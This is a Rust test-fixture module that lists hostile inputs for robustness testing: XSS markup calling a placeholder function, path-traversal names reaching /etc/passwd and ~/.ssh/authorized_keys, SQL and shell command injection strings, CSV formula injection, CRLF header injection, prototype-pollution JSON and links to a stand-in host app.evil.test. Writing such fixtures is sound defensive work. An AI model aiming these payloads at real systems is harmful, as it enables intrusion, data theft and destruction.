//! What a hostile page, script, org or file may hand in where text or JSON is taken. Always the same, in the same order.

use serde_json::{Value, json};

/// Markup that would run a script or draw something, were it taken for markup. Each that can run calls `pwned()`.
pub const MARKUP: &[&str] = &[
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<body onload=pwned()>",
    "<iframe src=javascript:pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<object data=javascript:pwned()>",
    "<embed src=javascript:pwned()>",
    "<a href=javascript:pwned()>x</a>",
    "<a href='java&#10;script:pwned()'>x</a>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()>",
    "<textarea autofocus onfocus=pwned()>",
    "<video><source onerror=pwned()>",
    "<audio src=x onerror=pwned()>",
    "<marquee onstart=pwned()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<template><script>pwned()</script></template>",
    "<link rel=stylesheet href=http://app.evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=http://app.evil.test/'>",
    "<base href=http://app.evil.test/>",
    "<form action=http://app.evil.test/><button>x",
    "<style>@import 'http://app.evil.test/x.css';</style>",
    "<style>*{background:url(http://app.evil.test/)}</style>",
    "<img src=http://app.evil.test/x.png>",
    "<div style='background:url(http://app.evil.test/)'>",
    "<x onclick=pwned() style=position:fixed;inset:0>",
    "\"><script>pwned()</script>",
    "'><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "</script><script>pwned()</script>",
    "--><script>pwned()</script>",
    "]]><script>pwned()</script>",
    "\" onmouseover=pwned() x=\"",
    "' onfocus=pwned() autofocus x='",
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "data:text/html,<script>parent.pwned()</script>",
    "vbscript:pwned()",
    "${pwned()}",
    "{{constructor.constructor('pwned()')()}}",
    "#{pwned()}",
    "<%= pwned() %>",
    "`${pwned()}`",
    "';pwned();//",
    "\";pwned();//",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "%3Cscript%3Epwned()%3C/script%3E",
    "＜script＞pwned()＜/script＞",
    "<scr\0ipt>pwned()</scr\0ipt>",
    "<SCRIPT SRC=//app.evil.test/x.js></SCRIPT>",
    "<img src=\"x\" onerror=\"&#112;wned()\">",
    "{\"dangerouslySetInnerHTML\":{\"__html\":\"<img src=x onerror=pwned()>\"}}",
    "=cmd|' /C calc'!A0",
];

/// Names that would lead a file elsewhere.
pub const PATHS: &[&str] = &[
    "../outbox.jsonl",
    "../../../../etc/passwd",
    "..",
    ".",
    "/",
    "//",
    "",
    " ",
    "a/b.jsonl",
    "a\\b.jsonl",
    "..\\..\\x",
    "/proc/self/mem",
    "/proc/self/environ",
    "/dev/full",
    "/dev/stdout",
    "/no/such/folder/x.jsonl",
    "C:\\Windows\\x",
    "\\\\evil.test\\share\\x",
    "file:///etc/passwd",
    "~/.ssh/authorized_keys",
    "$HOME/x",
    "x\0.jsonl",
    "x\n.jsonl",
    "CON",
    "aux.jsonl",
    "x/../../y",
    "./../y",
    "%2e%2e%2fpasswd",
    "..%c0%af..",
    "x.jsonl/",
];

/// Text that breaks other things than markup: numbers, ids, filters, JSON, terminals, the order of writing.
pub const WORDS: &[&str] = &[
    "null",
    "undefined",
    "NaN",
    "true",
    "0",
    "-1",
    "-0",
    "1e309",
    "99999999999999999999999999",
    "0x7fffffff",
    "1_000",
    "١٢٣",
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "6e2f0c1e-5b7a-4c7e-9a51",
    "{6e2f0c1e-5b7a-4c7e-9a51-2f1d3c4ba91c}",
    "urn:uuid:6e2f0c1e-5b7a-4c7e-9a51-2f1d3c4ba91c",
    "c-1",
    "c-1' OR '1'='1",
    "'; DROP TABLE guests; --",
    "name = \"x\" OR active = true",
    "name = \"x\") OR (active = true",
    "((((((((((((((((((((",
    "))))))))",
    "\"",
    "\\",
    "\\\"",
    "name contains \"\\\"",
    "attributes.__proto__ = 1",
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "__CHANNEL__:1",
    "__CHANNEL__:4294967296",
    "{}",
    "[]",
    "{\"a\":",
    "[[[[[[[[[[",
    "\u{0}",
    "a\u{0}b",
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "\u{1b}]8;;http://app.evil.test\u{7}click\u{1b}]8;;\u{7}",
    "\r\nSet-Cookie: x=1",
    "a\r\nX-Injected: 1",
    "a\nb\nc",
    "\u{7f}\u{80}\u{9f}",
    "\u{202e}gnp.exe",
    "\u{2066}abc\u{2069}",
    "a\u{200d}b\u{200c}c\u{feff}d",
    "\u{2028}\u{2029}",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "𝕏😀👩‍👩‍👧‍👦🏳️‍🌈",
    "\u{fffd}\u{fffe}\u{ffff}",
    "\u{10ffff}",
    "ﷺ",
    "İıſK",
    "Ω≈ç√∫˜µ≤≥÷",
    "%s%s%s%n%n",
    "%00",
    "{0}{1}",
    "$(reboot)",
    "`reboot`",
    "| reboot",
    "; reboot",
    "&& reboot",
    "--help",
    "-",
    "--",
    "@file",
    "*",
    "?",
    "2026-02-30T25:61:61Z",
    "+999999-01-01T00:00:00Z",
    "-0001-01-01",
    "* * * * *",
    "0 2 31 2 *",
    "99 99 99 99 99",
    "*/0 * * * *",
    "Europe/Nowhere",
    "../../etc/localtime",
    "http://127.0.0.1:1@app.evil.test/",
    "http://app.evil.test/",
    "https://user:pass@login.test/",
    "ftp://x/",
    "http://[::1",
    "http://127.0.0.1:99999",
];

/// Every text above and some that are long or come from a pattern: 220 and more.
#[must_use]
pub fn texts() -> Vec<String> {
    let mut texts: Vec<String> =
        [MARKUP, PATHS, WORDS].into_iter().flatten().map(|text| (*text).to_owned()).collect();
    for length in [64, 65, 128, 129, 200, 201, 1_000, 4_096, 4_097, 8_001, 70_000] {
        texts.push("x".repeat(length));
        texts.push("é".repeat(length.div_ceil(2)));
    }
    texts.push("(".repeat(3_000));
    texts.push("not ".repeat(1_500));
    texts.push("[".repeat(60_000));
    // Each character that acts, by itself and between letters.
    for code in (0..0x20).chain(0x7f..0xa0).step_by(3).filter_map(char::from_u32) {
        texts.push(format!("x{code}y"));
    }
    texts
}

/// JSON that is not what was asked for: [`texts`] and other types, sizes and depths. 300 and more.
#[must_use]
pub fn values() -> Vec<Value> {
    let mut values: Vec<Value> = vec![
        Value::Null,
        json!(true),
        json!(false),
        json!(0),
        json!(-1),
        json!(1.5),
        json!(-0.0),
        json!(1e300),
        json!(u64::MAX),
        json!(i64::MIN),
        json!(4_294_967_296_u64),
        json!(9_007_199_254_740_993_u64),
        json!([]),
        json!({}),
        json!([null]),
        json!([[[[]]]]),
        json!({ "": "" }),
        json!({ "__proto__": { "polluted": true } }),
        json!({ "constructor": { "prototype": { "polluted": true } } }),
        json!({ "value": { "value": { "value": 1 } } }),
        json!({ "id": null, "name": [], "text": {}, "query": 7 }),
        json!(vec!["x"; 200]),
        json!(vec![0; 20_000]),
        json!(vec!["01980000-0000-7000-8000-000000000003"; 101]),
    ];
    for levels in [5, 9, 40, 100] {
        values.push((0..levels).fold(json!(1), |inner, _| json!([inner])));
        values.push((0..levels).fold(json!("x"), |inner, _| json!({ "a": inner })));
    }
    // Texts in a list and in an object, where a text alone was asked for.
    for text in MARKUP {
        values.push(json!([text]));
    }
    values.push(json!("x".repeat(300_000)));
    values.extend(texts().into_iter().map(Value::String));
    values
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_enough_of_them_and_no_two_are_the_same() {
        let (texts, values) = (texts(), values());
        assert!(texts.len() >= 200 && values.len() >= 300, "{} {}", texts.len(), values.len());
        for (n, text) in texts.iter().enumerate() {
            assert!(!texts[..n].contains(text), "{text:?} stands there twice");
        }
    }
}
